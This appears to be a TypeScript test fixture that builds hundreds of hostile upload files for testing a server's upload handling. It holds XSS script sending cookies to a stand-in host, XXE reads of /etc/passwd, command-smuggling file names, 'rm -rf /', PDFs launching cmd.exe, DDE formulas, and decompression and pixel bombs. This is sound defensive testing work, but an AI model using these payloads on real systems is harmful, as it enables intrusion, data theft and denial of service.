import { buffer } from 'node:stream/consumers';
import { deflateSync } from 'node:zlib';
import sharp from 'sharp';
import yazl from 'yazl';
import { pdf, photograph } from './pictures.ts';

export interface HostileFile {
  readonly about: string;
  readonly name: string;
  readonly bytes: Uint8Array<ArrayBuffer>;
}

const bytesOf = (text: string | Buffer): Uint8Array<ArrayBuffer> => Uint8Array.from(Buffer.from(text as string));
const joined = (...parts: (string | Uint8Array)[]) => bytesOf(Buffer.concat(parts.map((part) => Buffer.from(part))));

const NAMES = [
  '../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '/etc/shadow',
  'C:\\autoexec.bat',
  'a\0.jpg',
  'a.jpg\0.html',
  'a.html',
  'a.svg',
  'a.php.jpg',
  'a.jpg.exe',
  '.htaccess',
  '....',
  '',
  ' ',
  `${'x'.repeat(300)}.jpg`,
  `${'é'.repeat(300)}.pdf`,
  '\u202Egpj.exe',
  'שלום עולם.jpg',
  'مرحبا.pdf',
  '照片.jpg',
  '👩‍👧‍👦.jpg',
  'a\r\nSet-Cookie: stolen=1.jpg',
  'a";filename*=evil.html',
  "a'; drop table upload;--.jpg",
  '<img src=x onerror=alert(1)>.jpg',
  '=cmd|calc!A1.xlsx',
  'CON',
  'aux.jpg',
  '%2e%2e%2fpasswd',
  'a$(reboot).pdf',
  'a.pdf ',
  'a.jpg.',
];

const SCRIPT = '<script>fetch("//evil.test/"+document.cookie)</script>';
const EICAR = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR', 'STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('-');

/** At least three hundred files that want to be something else than they say, to be too much, or to lie somewhere else. */
export async function hostileFiles(): Promise<HostileFile[]> {
  const photo = await photograph({ width: 64, height: 48 });
  const contents: [string, Uint8Array<ArrayBuffer>][] = [
    ['a photo', photo],
    ['a PDF', pdf()],
    ['a page', bytesOf(`<!doctype html>${SCRIPT}`)],
    ['a photo that ends as a page', joined(photo, `<html>${SCRIPT}`)],
  ];
  const named = NAMES.flatMap((name) =>
    contents.map(([about, bytes]) => ({ about: `${about} of a bad name`, name, bytes })),
  );
  return [
    ...named,
    ...texts(),
    ...polyglots(photo),
    ...damaged('a.jpg', photo),
    ...(await otherPictures()),
    ...described(photo),
    ...activePdfs(),
    ...(await officeFiles()),
    ...bombs(),
    ...(await largerThanTheyLook()),
  ];
}

function texts(): HostileFile[] {
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${SCRIPT}</svg>`;
  const bodies: [string, string][] = [
    ['SVG with a script', svg],
    ['SVG with a declaration', `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg}`],
    ['a page without a head', SCRIPT],
    ['a page after a long space', `${' '.repeat(2000)}<html>${SCRIPT}`],
    ['a byte order mark and a page', `\uFEFF<html>${SCRIPT}`],
    ['EICAR', EICAR],
    ['a shell script', '#!/bin/sh\nrm -rf /\n'],
    ['JavaScript', 'alert(1)'],
    ['a manifest', 'CACHE MANIFEST\n/\n'],
    ['XML', '<?xml version="1.0"?><a/>'],
    ['MathML', `<math><mtext>${SCRIPT}</mtext></math>`],
  ];
  return bodies.flatMap(([about, body]) =>
    ['a.jpg', 'a.png', 'a.pdf', 'a.docx'].map((name) => ({ about, name, bytes: bytesOf(body) })),
  );
}

function polyglots(photo: Uint8Array<ArrayBuffer>): HostileFile[] {
  const page = `<html>${SCRIPT}</html>`;
  return [
    { about: 'GIF and JavaScript', name: 'a.gif', bytes: bytesOf('GIF89a/*\0\0*/=1;alert(1)//') },
    { about: 'GIF and page', name: 'a.gif', bytes: joined('GIF89a', page) },
    { about: 'a page before a PDF', name: 'a.pdf', bytes: joined(page, pdf()) },
    { about: 'a PDF after one line', name: 'a.pdf', bytes: joined('\n', pdf()) },
    { about: 'a PDF that ends as a zip', name: 'a.pdf', bytes: joined(pdf(), 'PK\x03\x04', 'x'.repeat(60)) },
    { about: 'a photo that ends as a PDF', name: 'a.jpg', bytes: joined(photo, pdf()) },
    { about: 'a photo with a comment', name: 'a.jpg', bytes: withComment(photo, page) },
    { about: 'a photo called HTML', name: 'a.html', bytes: photo },
    { about: 'a PDF with JavaScript', name: 'a.pdf', bytes: pdf('/OpenAction<</S/JavaScript/JS(app.alert(1))>>') },
    { about: 'an old Office file of unknown name', name: 'a.msi', bytes: bytesOf(CFB) },
    { about: 'an old Office file with macros', name: 'a.doc', bytes: joined(CFB, 'Attribut\0e VB_Name = "AutoOpen"') },
    { about: 'a program', name: 'a.jpg', bytes: joined('MZ', 'x'.repeat(500)) },
    { about: 'an ELF program', name: 'a.pdf', bytes: joined('\x7fELF', 'x'.repeat(500)) },
    { about: 'a zip', name: 'a.docx', bytes: joined('PK\x03\x04', 'x'.repeat(500)) },
    { about: 'an empty zip', name: 'a.xlsx', bytes: joined('PK\x05\x06', '\0'.repeat(18)) },
    { about: 'a Java archive', name: 'a.docx', bytes: joined('\xca\xfe\xba\xbe', 'x'.repeat(500)) },
    { about: 'a film', name: 'a.jpg', bytes: joined('\0\0\0\x18ftypmp42', 'x'.repeat(500)) },
  ];
}
const CFB = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(1024)]);

/** Cut short at many places, and with bytes turned. */
function damaged(name: string, picture: Uint8Array<ArrayBuffer>): HostileFile[] {
  const lengths = [1, 2, 3, 4, 10, 20, 50, 100, 200, 300, 400, picture.length - 1];
  const cuts = lengths.map((length) => ({
    about: `a picture cut after ${length} bytes`,
    name,
    bytes: picture.slice(0, length),
  }));
  const turned = [20, 60, 120, 180, 240, 300].map((place) => {
    const bytes = picture.slice();
    for (let i = place; i < place + 8 && i < bytes.length; i += 1) bytes[i] = 255 - (bytes[i] ?? 0);
    return { about: `a picture turned at ${place}`, name, bytes };
  });
  return [...cuts, ...turned, { about: 'nothing', name, bytes: new Uint8Array() }];
}

/** Damaged ones of the other kinds that are taken, and kinds that are not. */
async function otherPictures(): Promise<HostileFile[]> {
  const picture = sharp({
    create: { width: 80, height: 60, channels: 3, background: '#888888', noise: { type: 'gaussian', sigma: 30 } },
  });
  const made = await Promise.all(
    (['png', 'webp', 'gif', 'avif'] as const).map(async (format) => ({
      name: `a.${format}`,
      bytes: bytesOf(await picture.clone().toFormat(format).toBuffer()),
    })),
  );
  const tiff = bytesOf(await picture.clone().tiff().toBuffer());
  return [
    ...made.flatMap(({ name, bytes }) => damaged(name, bytes)),
    { about: 'a TIFF', name: 'a.jpg', bytes: tiff },
    { about: 'a TIFF whose directory is its own next', name: 'a.tiff', bytes: bytesOf(LOOPING_TIFF) },
    { about: 'a bitmap', name: 'a.jpg', bytes: joined('BM', '\0'.repeat(100)) },
    { about: 'an icon', name: 'a.png', bytes: joined('\0\0\x01\0\x01\0', '\0'.repeat(100)) },
    { about: 'a JPEG 2000', name: 'a.jpg', bytes: joined('\0\0\0\x0cjP  \r\n', '\0'.repeat(100)) },
    { about: 'PostScript', name: 'a.jpg', bytes: bytesOf('%!PS-Adobe-3.0 EPSF\n(/etc/passwd) (r) file\n') },
    { about: 'a playlist', name: 'a.jpg', bytes: bytesOf('#EXTM3U\n#EXT-X-VERSION:3\nfile:///etc/passwd\n') },
    {
      about: "ImageMagick's own",
      name: 'a.png',
      bytes: bytesOf('push graphic-context\nfill "url(https://evil.test/)"'),
    },
  ];
}
const LOOPING_TIFF = Buffer.from('49492a00080000000100000103000100000001000000080000', 'hex');

/** JPEGs whose descriptions are the attack. */
function described(photo: Uint8Array<ArrayBuffer>): HostileFile[] {
  const xmp = (text: string) => marked(photo, 0xe1, `http://ns.adobe.com/xap/1.0/\0${text}`);
  const exif = (hex: string) => marked(photo, 0xe1, Buffer.concat([Buffer.from('Exif\0\0'), Buffer.from(hex, 'hex')]));
  return [
    ['a description with a script', xmp(`<x:xmpmeta>${SCRIPT}</x:xmpmeta>`)],
    ['a description with an entity', xmp('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>')],
    [
      'a description of a billion laughs',
      xmp(`<!DOCTYPE x [<!ENTITY a "${'ha'.repeat(500)}">]><x>${'&a;'.repeat(2000)}</x>`),
    ],
    ['turned in a way there is none', exif('4d4d002a00000008000101120003000000010063000000000000')],
    ['a description that points to itself', exif('4d4d002a00000008000187690004000000010000000800000008')],
    ['a description that ends early', exif('4d4d002a0000000800ff')],
    ['colours that are none', marked(photo, 0xe2, `ICC_PROFILE\0\x01\x01${'x'.repeat(200)}`)],
    [
      'a thousand comments',
      Array.from({ length: 1000 }).reduce<Uint8Array<ArrayBuffer>>((jpeg) => withComment(jpeg, SCRIPT), photo),
    ],
  ].map(([about, bytes]) => ({
    about: `a photo with ${about}`,
    name: 'a.jpg',
    bytes: bytes as Uint8Array<ArrayBuffer>,
  }));
}

/** PDFs that would do something when they are opened, or are larger than they look. */
function activePdfs(): HostileFile[] {
  return [
    '/OpenAction<</S/Launch/F(cmd.exe)>>',
    '/OpenAction<</S/URI/URI(javascript:alert\\(1\\))>>',
    '/OpenAction<</S/SubmitForm/F(https://evil.test/)>>',
    '/OpenAction<</S/GoToR/F(\\\\\\\\evil.test\\\\share)/D[0/Fit]>>',
    '/AcroForm<</XFA(<xdp:xdp/>)/Fields[]>>',
    '/AA<</WC<</S/JavaScript/JS(app.alert\\(1\\))>>>>',
    '/Names<</EmbeddedFiles<</Names[(a.exe)<</Type/Filespec/F(a.exe)>>]>>>>',
    '/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(app.alert\\(1\\))>>]>>>>',
    `/Kids[${'1 0 R '.repeat(20_000)}]`,
    `/Title(${SCRIPT})`,
    '<< '.repeat(20_000),
  ].map((text) => ({ about: `a PDF with ${text.slice(0, 60)}`, name: 'a.pdf', bytes: pdf(text) }));
}

/** Documents of Word and Excel that fetch, compute or unfold something. */
async function officeFiles(): Promise<HostileFile[]> {
  const external = (target: string) =>
    `<Relationships><Relationship Id="r1" Type="attachedTemplate" Target="${target}" TargetMode="External"/></Relationships>`;
  const kinds: [string, string, Record<string, string | Buffer>][] = [
    ['a template from elsewhere', 'a.docx', { 'word/_rels/settings.xml.rels': external('https://evil.test/a.dotm') }],
    [
      'a template from a share',
      'a.docx',
      { 'word/_rels/settings.xml.rels': external('file://evil.test/share/a.dotm') },
    ],
    ['macros', 'a.docx', { 'word/vbaProject.bin': CFB }],
    [
      'an entity',
      'a.docx',
      { 'word/document.xml': '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>' },
    ],
    [
      'a billion laughs',
      'a.docx',
      { 'word/document.xml': `<!DOCTYPE x [<!ENTITY a "ha">]><x>${'&a;'.repeat(9999)}</x>` },
    ],
    ['much of nothing', 'a.docx', { 'word/media/a.bmp': Buffer.alloc(100_000_000) }],
    ['a formula that runs a program', 'a.xlsx', { 'xl/worksheets/sheet1.xml': "<c><f>cmd|'/c calc'!A0</f></c>" }],
    ['a link to elsewhere', 'a.xlsx', { 'xl/externalLinks/_rels/a.xml.rels': external('https://evil.test/a.xlsx') }],
    ['macros', 'a.xlsx', { 'xl/vbaProject.bin': CFB }],
    ['a program inside', 'a.xlsx', { 'xl/embeddings/a.exe': 'MZ' }],
  ];
  return Promise.all(
    kinds.map(async ([what, name, parts]) => ({
      about: `an Office file with ${what}`,
      name,
      bytes: await office(name, parts),
    })),
  );
}

async function office(
  name: string,
  parts: Readonly<Record<string, string | Buffer>>,
): Promise<Uint8Array<ArrayBuffer>> {
  const [part, type] =
    name.endsWith('x') && name.includes('.xlsx')
      ? ['xl/workbook.xml', 'spreadsheetml.sheet']
      : ['word/document.xml', 'wordprocessingml.document'];
  const types = `<Types><Override PartName="/${part}" ContentType="application/vnd.openxmlformats-officedocument.${type}.main+xml"/></Types>`;
  const zip = new yazl.ZipFile();
  for (const [path, content] of Object.entries({ '[Content_Types].xml': types, [part as string]: '<x/>', ...parts }))
    zip.addBuffer(Buffer.from(content), path);
  zip.end();
  return bytesOf(await buffer(zip.outputStream));
}

/** Small files that become enormous pictures. */
function bombs(): HostileFile[] {
  return [
    [30_000, 30_000],
    [65_000, 65_000],
    [2_147_483_647, 1],
    [1, 2_147_483_647],
    [0, 0],
    [10_000, 10_000],
  ].map(([width = 0, height = 0]) => ({
    about: `${width} x ${height} pixels`,
    name: 'a.png',
    bytes: png(width, height),
  }));
}

/** Few bytes of which a careless reader makes very many. */
async function largerThanTheyLook(): Promise<HostileFile[]> {
  const text = deflateSync(Buffer.alloc(50_000_000));
  const head = Buffer.from('89504e470d0a1a0a', 'hex');
  const [small, wide] = [
    bytesOf(
      await sharp({ create: { width: 8, height: 8, channels: 3, background: '#888888' } })
        .png()
        .toBuffer(),
    ),
    await photograph({ width: 64, height: 48 }),
  ];
  const frame = Buffer.from('2c000000001027102700020144003b', 'hex');
  const screen = Buffer.from('4749463839611027102780000000000000ffffff', 'hex');
  const size = wide.findIndex((byte, n) => byte === 0xff && wide[n + 1] === 0xc0);
  const claimed = wide.slice();
  claimed.set([0xff, 0xff, 0xff, 0xff], size + 5);
  return [
    {
      about: 'a PNG with a long text',
      name: 'a.png',
      bytes: joined(
        head,
        small.slice(8, 33),
        chunk('zTXt', Buffer.concat([Buffer.from('a\0\0'), text])),
        small.slice(33),
      ),
    },
    {
      about: 'a PNG with long colours',
      name: 'a.png',
      bytes: joined(
        head,
        small.slice(8, 33),
        chunk('iCCP', Buffer.concat([Buffer.from('a\0\0'), text])),
        small.slice(33),
      ),
    },
    { about: 'a PNG without an end', name: 'a.png', bytes: joined(head, small.slice(8, 33), chunk('IDAT', text)) },
    {
      about: 'a GIF of very many large frames',
      name: 'a.gif',
      bytes: joined(screen, ...Array.from({ length: 5000 }, () => frame)),
    },
    { about: 'a JPEG that says it is the largest', name: 'a.jpg', bytes: claimed },
    {
      about: 'a WebP that says it is the largest',
      name: 'a.webp',
      bytes: joined('RIFF\x1e\0\0\0WEBPVP8X\n\0\0\0\x10\0\0\0', '\xff'.repeat(6)),
    },
  ];
}

function png(width: number, height: number): Uint8Array<ArrayBuffer> {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head.set([1, 0, 0, 0, 0], 8);
  const rows = deflateSync(Buffer.alloc(Math.min(20_000_000, Math.ceil(width / 8 + 1) * Math.min(height, 30_000))));
  return joined(
    Buffer.from('89504e470d0a1a0a', 'hex'),
    chunk('IHDR', head),
    chunk('IDAT', rows),
    chunk('IEND', Buffer.alloc(0)),
  );
}

function chunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type), data]);
  const whole = Buffer.alloc(body.length + 8);
  whole.writeUInt32BE(data.length, 0);
  body.copy(whole, 4);
  whole.writeUInt32BE(crc(body), body.length + 4);
  return whole;
}
function crc(bytes: Buffer): number {
  let value = 0xffffffff;
  for (const byte of bytes) {
    value ^= byte;
    for (let bit = 0; bit < 8; bit += 1) value = value & 1 ? (value >>> 1) ^ 0xedb88320 : value >>> 1;
  }
  return (value ^ 0xffffffff) >>> 0;
}

/** A JPEG with a comment after its beginning, which a careless server would pass on. */
const withComment = (photo: Uint8Array, text: string) => marked(photo, 0xfe, text);

/** A JPEG with one segment more after its beginning. */
function marked(photo: Uint8Array, marker: number, content: string | Buffer): Uint8Array<ArrayBuffer> {
  const bytes = Buffer.from(content as string);
  const length = Buffer.alloc(2);
  length.writeUInt16BE(bytes.length + 2);
  return joined(photo.slice(0, 2), Buffer.from([0xff, marker]), length, bytes, photo.slice(2));
}

/** What is sent as the path of an upload, and leads elsewhere. */
export const NO_UPLOADS: readonly string[] = [
  '../../etc/passwd',
  '/uploads/../../etc/passwd',
  '/uploads/..',
  '/uploads/a/../../b.jpg',
  '/uploads/%2e%2e%2fsecret',
  '/uploads/.hidden',
  '/uploads/',
  '/uploads/a/b.jpg',
  '/uploads\\a.jpg',
  '/etc/passwd',
  'uploads/a.jpg',
  'file:///etc/passwd',
  'https://example.test/uploads/a.jpg',
  'javascript:alert(1)',
  '//host/uploads/a.jpg',
  '/uploads/a.jpg?x=1',
  '/uploads/a.jpg#x',
  'C:\\uploads\\a.jpg',
];
